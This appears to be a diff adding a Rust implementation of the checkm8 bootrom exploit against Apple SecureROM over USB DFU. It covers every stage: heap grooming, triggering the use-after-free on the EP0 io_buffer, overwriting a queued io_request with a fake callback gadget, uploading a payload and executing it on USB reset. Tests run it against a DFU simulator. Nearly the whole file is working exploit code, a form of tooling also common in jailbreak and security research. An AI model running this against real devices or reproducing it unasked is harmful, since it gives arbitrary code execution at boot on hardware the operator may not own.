@@ -0,0 +1,403 @@
+// checkm8, after ipwndfu and gaster. The SecureROM keeps a pointer to the
+// io_buffer for the EP0 data phase and doesn't clear it when DFU exits and
+// frees that buffer. With the heap groomed so that the buffer comes back
+// somewhere else on re-entry, io_requests get allocated where it used to be,
+// and data sent through the stale pointer overwrites one of them. Completing
+// it on the next USB reset calls our callback.
+//
+// Every stage is driven through Transport so the same sequence runs against
+// a device or the simulator.
+
+use crate::dfu::{DfuClient, DFU_TIMEOUT};
+use crate::soc::{Checkm8Config, Soc};
+use crate::timing::TimingProfile;
+use crate::transport::{TransferError, Transport};
+use crate::{DFU_CLRSTATUS, DFU_DNLOAD, DFU_FILE_SUFFIX_LENGTH, DFU_MAX_TRANSFER_SIZE, EP0_MAX_PACKET_SIZE};
+use std::time::Instant;
+use tracing::{field, info, info_span};
+
+// GET_DESCRIPTOR for the serial number string, the one response long enough
+// to leave in flight
+const GET_DESCRIPTOR: u8 = 6;
+const SERIAL_STRING: u16 = 0x304;
+const LANGUAGE_ID: u16 = 0x40A;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Stage {
+    Reset,
+    HeapFengshui,
+    TriggerUaf,
+    Overwrite,
+    SendPayload,
+    Execute,
+}
+
+pub const STAGES: [(Stage, &str); 6] = [
+    (Stage::Reset, "reset"),
+    (Stage::HeapFengshui, "fengshui"),
+    (Stage::TriggerUaf, "uaf"),
+    (Stage::Overwrite, "overwrite"),
+    (Stage::SendPayload, "payload"),
+    (Stage::Execute, "execute"),
+];
+
+impl Stage {
+    pub fn name(self) -> &'static str {
+        STAGES.iter().find(|(stage, _)| *stage == self).unwrap().1
+    }
+
+    pub fn from_name(name: &str) -> Option<Stage> {
+        STAGES.iter().find(|(_, own)| *own == name).map(|(stage, _)| *stage)
+    }
+}
+
+// Most requests are expected to stall or time out, only losing the device is
+// an error
+fn quietly<R>(result: Result<R, TransferError>) -> Result<(), String> {
+    match result {
+        Err(TransferError::NoDevice) => Err("device disconnected".to_string()),
+        _ => Ok(()),
+    }
+}
+
+fn get_descriptor<T: Transport>(transport: &mut T, length: u16, timeout: u32) -> Result<usize, TransferError> {
+    let mut data = vec![0u8; length.into()];
+    transport.control_transfer(0x80, GET_DESCRIPTOR, SERIAL_STRING, LANGUAGE_ID, &mut data, timeout)
+}
+
+// An IN request that the host gives up on while the device is still sending
+// stays queued on the device side, and every IN request after it queues up
+// behind it, each with its own io_request. It has to be cut short after the
+// device started answering, which doesn't always happen on the first try on
+// real hardware.
+fn stall<T: Transport>(transport: &mut T, profile: &TimingProfile) -> Result<(), String> {
+    for _ in 0..profile.stall_attempts {
+        match get_descriptor(transport, 3 * EP0_MAX_PACKET_SIZE, profile.stall_abort) {
+            Err(TransferError::Timeout) => return Ok(()),
+            Err(TransferError::NoDevice) => return Err("device disconnected".to_string()),
+            _ => {}
+        }
+    }
+    Err("couldn't stall EP0".to_string())
+}
+
+// A response that's a multiple of the packet size gets a zero-length packet
+// after it, whose io_request is never freed once the reset aborts it
+fn leak<T: Transport>(transport: &mut T, profile: &TimingProfile) -> Result<(), String> {
+    quietly(get_descriptor(transport, EP0_MAX_PACKET_SIZE, profile.request_timeout))
+}
+
+fn no_leak<T: Transport>(transport: &mut T, profile: &TimingProfile) -> Result<(), String> {
+    quietly(get_descriptor(transport, EP0_MAX_PACKET_SIZE + 1, profile.request_timeout))
+}
+
+fn usb_reset<T: Transport>(transport: &mut T) -> Result<(), String> {
+    transport.reset().map_err(|e| format!("reset: {}", e))
+}
+
+// Gets DFU back to a known state: an image too short to be valid, taken
+// through manifestation, makes the ROM start DFU over
+pub fn reset_device<T: Transport>(transport: &mut T) -> Result<(), String> {
+    let mut dfu = DfuClient::new(&mut *transport);
+    quietly(dfu.dnload(&[0u8; DFU_FILE_SUFFIX_LENGTH]))?;
+    quietly(dfu.dnload(&[]))?;
+    for _ in 0..3 {
+        quietly(dfu.get_status())?;
+    }
+    usb_reset(transport)
+}
+
+// Fills the hole in the heap with requests that are freed on reset, with a
+// leaked ZLP right after them. The leak stays put and changes where DFU
+// re-entry puts the io_buffer.
+pub fn heap_fengshui<T: Transport>(
+    transport: &mut T,
+    config: &Checkm8Config,
+    profile: &TimingProfile,
+) -> Result<(), String> {
+    stall(transport, profile)?;
+    for _ in 0..config.hole {
+        no_leak(transport, profile)?;
+    }
+    leak(transport, profile)?;
+    no_leak(transport, profile)?;
+    usb_reset(transport)
+}
+
+// Starts a DNLOAD and abandons it after the SETUP, so the data phase is still
+// pointed at the io_buffer. Data for requests the ROM doesn't handle goes
+// there too, which moves the data phase up to where the target io_request
+// will be. CLRSTATUS in the middle of it all makes DFU exit, freeing the
+// io_buffer, and the pointer is left dangling. Where the DNLOAD has to be cut
+// short depends on the host, so the profile's delays are tried in turn.
+//
+// Whatever of the DNLOAD got through has moved the data phase already, so
+// only the rest of the pad goes after it. Where the transport can't say, the
+// profile's delays have to be ones that let none of it through (calibrate).
+pub fn trigger_uaf<T: Transport>(
+    transport: &mut T,
+    config: &Checkm8Config,
+    profile: &TimingProfile,
+) -> Result<(), String> {
+    let mut block = vec![0u8; DFU_MAX_TRANSFER_SIZE.into()];
+    for attempt in 0..profile.uaf_attempts {
+        let timeout = profile.uaf_abort_for(attempt);
+        match transport.control_transfer(0x21, DFU_DNLOAD, 0, 0, &mut block, timeout) {
+            Err(TransferError::Timeout) => {}
+            Err(TransferError::NoDevice) => return Err("device disconnected".to_string()),
+            _ => continue,
+        }
+        let through = transport.timed_out_length().unwrap_or(0);
+        let Some(rest) = config.overwrite_pad.checked_sub(through) else {
+            // past the target already: let the DNLOAD finish and drop it
+            let mut rest = vec![0u8; usize::from(DFU_MAX_TRANSFER_SIZE).saturating_sub(through)];
+            quietly(transport.control_transfer(0, 0, 0, 0, &mut rest, DFU_TIMEOUT))?;
+            quietly(DfuClient::new(&mut *transport).abort())?;
+            continue;
+        };
+        let mut padding = vec![0u8; rest];
+        // stalls once the data is in, if the data phase was still armed
+        if transport.control_transfer(0, 0, 0, 0, &mut padding, DFU_TIMEOUT) == Err(TransferError::Stall) {
+            quietly(transport.control_transfer(0x21, DFU_CLRSTATUS, 0, 0, &mut [], profile.request_timeout))?;
+            return usb_reset(transport);
+        }
+    }
+    Err("couldn't interrupt a DNLOAD".to_string())
+}
+
+// Queues the io_requests that now sit in the old io_buffer, and sends the
+// fake one through the dangling data phase: its callback goes to the ROM
+// gadget, its next to the start of the payload
+pub fn overwrite<T: Transport>(
+    transport: &mut T,
+    soc: &Soc,
+    config: &Checkm8Config,
+    profile: &TimingProfile,
+) -> Result<(), String> {
+    stall(transport, profile)?;
+    for _ in 0..config.leak + profile.extra_leaks {
+        leak(transport, profile)?;
+    }
+    let mut fake = vec![0u8; 0x20];
+    fake.extend_from_slice(&config.callback_gadget.to_le_bytes());
+    fake.extend_from_slice(&soc.insecure_memory_base.to_le_bytes());
+    match transport.control_transfer(0, 0, 0, 0, &mut fake, profile.request_timeout) {
+        Err(TransferError::Stall) => Ok(()),
+        Err(TransferError::NoDevice) => Err("device disconnected".to_string()),
+        _ => Err("overwrite wasn't stalled, the data phase isn't armed".to_string()),
+    }
+}
+
+// The payload goes into the load area like any download, where the fake
+// io_request's next expects it
+pub fn send_payload<T: Transport>(transport: &mut T, payload: &[u8]) -> Result<(), String> {
+    let mut dfu = DfuClient::new(transport);
+    for (i, block) in payload.chunks(DFU_MAX_TRANSFER_SIZE.into()).enumerate() {
+        let sent = dfu.dnload(block).map_err(|e| format!("payload block {}: {}", i, e))?;
+        if sent != block.len() {
+            return Err(format!("short payload block {} ({} of {} bytes)", i, sent, block.len()));
+        }
+    }
+    Ok(())
+}
+
+// Each stage gets a span, so its transfers and timing show up under it
+pub fn run_stage<T: Transport>(
+    transport: &mut T,
+    stage: Stage,
+    soc: &Soc,
+    config: &Checkm8Config,
+    profile: &TimingProfile,
+    payload: &[u8],
+) -> Result<(), String> {
+    let span = info_span!(
+        "stage",
+        stage = stage.name(),
+        soc = soc.name,
+        profile = profile.name.as_str(),
+        elapsed_us = field::Empty,
+        error = field::Empty
+    );
+    let _entered = span.enter();
+    let started = Instant::now();
+    let result = match stage {
+        Stage::Reset => reset_device(transport),
+        Stage::HeapFengshui => heap_fengshui(transport, config, profile),
+        Stage::TriggerUaf => trigger_uaf(transport, config, profile),
+        Stage::Overwrite => overwrite(transport, soc, config, profile),
+        Stage::SendPayload => send_payload(transport, payload),
+        // completing the fake io_request is what runs the payload
+        Stage::Execute => usb_reset(transport),
+    };
+    span.record("elapsed_us", started.elapsed().as_micros() as u64);
+    if let Err(e) = &result {
+        span.record("error", e.as_str());
+    }
+    result
+}
+
+// Runs the whole exploit. The device stays on the bus and comes back with
+// PWND in its serial if it worked.
+pub fn checkm8<T: Transport>(
+    transport: &mut T,
+    soc: &Soc,
+    profile: &TimingProfile,
+    payload: &[u8],
+) -> Result<(), String> {
+    let config = soc
+        .checkm8
+        .ok_or(format!("no checkm8 support for {} yet", soc.name))?;
+    for (i, (stage, name)) in STAGES.iter().enumerate() {
+        info!("Stage {}: {}", i + 1, name);
+        run_stage(transport, *stage, soc, &config, profile, payload).map_err(|e| format!("{}: {}", name, e))?;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sim::DfuSimulator;
+    use crate::timing::Profiles;
+    use crate::trace::Replay;
+
+    fn generic() -> TimingProfile {
+        Profiles::builtin().get("generic").unwrap().clone()
+    }
+
+    // The stages by name against a fresh simulator, with the t8010 config
+    // changed by `tweak`
+    fn simulate(stages: &[&str], tweak: impl Fn(&mut Checkm8Config)) -> DfuSimulator {
+        let mut sim = DfuSimulator::new();
+        let soc = sim.soc();
+        let mut config = soc.checkm8.unwrap();
+        tweak(&mut config);
+        for name in stages {
+            let stage = Stage::from_name(name).unwrap();
+            run_stage(&mut sim, stage, soc, &config, &generic(), crate::YOLO_T8010_BIN).unwrap();
+        }
+        sim
+    }
+
+    fn diagnosis(sim: &DfuSimulator) -> String {
+        assert!(!sim.is_pwned());
+        sim.diagnosis().unwrap()
+    }
+
+    #[test]
+    fn pwns_the_simulator() {
+        let mut sim = DfuSimulator::new();
+        let soc = sim.soc();
+        checkm8(&mut sim, soc, &generic(), crate::YOLO_T8010_BIN).unwrap();
+        assert!(sim.is_pwned());
+        assert_eq!(sim.diagnosis(), None);
+        assert!(sim.serial_number().unwrap().ends_with(" PWND:[checkm8]"));
+    }
+
+    // A recorded simulator run, replayed through the exploit the way the
+    // replay command does. A change to what checkm8 sends shows up as the call
+    // where it stops matching; re-record the trace if the change is meant.
+    #[test]
+    fn replays_the_golden_trace() {
+        let trace = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/vectors/trace/checkm8.trace"));
+        let mut replay = Replay::parse(trace, "checkm8").unwrap();
+        let result = crate::exploit(&mut replay, &generic());
+        // where it diverged says more than the disconnect it ends in
+        replay.finish().unwrap();
+        result.unwrap();
+    }
+
+    // Cut short later, some of the DNLOAD is in and the pad makes up the rest
+    #[test]
+    fn pads_after_a_partial_dnload() {
+        for delay in [2, 3, 10, 24] {
+            let mut sim = DfuSimulator::new();
+            let soc = sim.soc();
+            let profile = TimingProfile {
+                uaf_abort: (delay, delay),
+                ..generic()
+            };
+            checkm8(&mut sim, soc, &profile, crate::YOLO_T8010_BIN).unwrap();
+            assert!(sim.is_pwned(), "{}ms: {:?}", delay, sim.diagnosis());
+            let through = (delay as usize - 1) * 0x40;
+            assert!(
+                sim.events().iter().any(|event| event.starts_with(&format!("DNLOAD interrupted after {} bytes", through))),
+                "{}ms",
+                delay
+            );
+        }
+    }
+
+    // Past the pad, there's nothing to line up: the DNLOAD is let go and the
+    // device is left as it was
+    #[test]
+    fn skips_a_dnload_past_the_pad() {
+        let mut sim = DfuSimulator::new();
+        let soc = sim.soc();
+        let config = soc.checkm8.unwrap();
+        let late = TimingProfile {
+            uaf_abort: (30, 30),
+            uaf_attempts: 3,
+            ..generic()
+        };
+        reset_device(&mut sim).unwrap();
+        heap_fengshui(&mut sim, &config, &generic()).unwrap();
+        assert_eq!(trigger_uaf(&mut sim, &config, &late), Err("couldn't interrupt a DNLOAD".to_string()));
+        assert!(sim.diagnosis().unwrap().contains("never freed under the armed data phase"));
+        checkm8(&mut sim, soc, &generic(), crate::YOLO_T8010_BIN).unwrap();
+        assert!(sim.is_pwned(), "{:?}", sim.diagnosis());
+    }
+
+    #[test]
+    fn diagnoses_stage_order() {
+        for (stages, expected) in [
+            (
+                ["reset", "fengshui", "overwrite", "payload", "execute"].as_slice(),
+                "no DNLOAD was interrupted",
+            ),
+            (
+                &["reset", "uaf", "fengshui", "overwrite", "payload", "execute"],
+                "heap_fengshui has to run before trigger_uaf",
+            ),
+            (
+                &["reset", "fengshui", "uaf", "payload", "overwrite", "execute"],
+                "the overwrite has to come before the payload",
+            ),
+            (
+                &["reset", "fengshui", "uaf", "overwrite", "execute", "payload"],
+                "the payload has to be sent before the reset",
+            ),
+            (
+                &["reset", "fengshui", "uaf", "overwrite", "payload"],
+                "the device was never reset to complete it",
+            ),
+        ] {
+            let diagnosis = diagnosis(&simulate(stages, |_| {}));
+            assert!(diagnosis.contains(expected), "{:?}: {}", stages, diagnosis);
+        }
+    }
+
+    #[test]
+    fn diagnoses_a_wrong_pad() {
+        let all = STAGES.map(|(_, name)| name);
+        for (pad, expected) in [
+            (0x5A0, "the overwrite missed: its callback field is -32 bytes off that of the queued io_request"),
+            // lands inside the target, clearing its callback
+            (0x5E0, "the overwrite isn't lined up with the io_request"),
+            (0x600, "the overwrite missed: its callback field at 0x180180c60 is in a leaked ZLP io_request"),
+        ] {
+            let diagnosis = diagnosis(&simulate(&all, |config| config.overwrite_pad = pad));
+            assert!(diagnosis.contains(expected), "pad 0x{:x}: {}", pad, diagnosis);
+        }
+    }
+
+    #[test]
+    fn diagnoses_a_wrong_hole() {
+        let all = STAGES.map(|(_, name)| name);
+        for hole in [0, 3, 9] {
+            let diagnosis = diagnosis(&simulate(&all, |config| config.hole = hole));
+            assert!(diagnosis.starts_with("the overwrite missed"), "hole {}: {}", hole, diagnosis);
+            assert!(diagnosis.contains("Check the hole count and overwrite pad"), "hole {}: {}", hole, diagnosis);
+        }
+    }
+}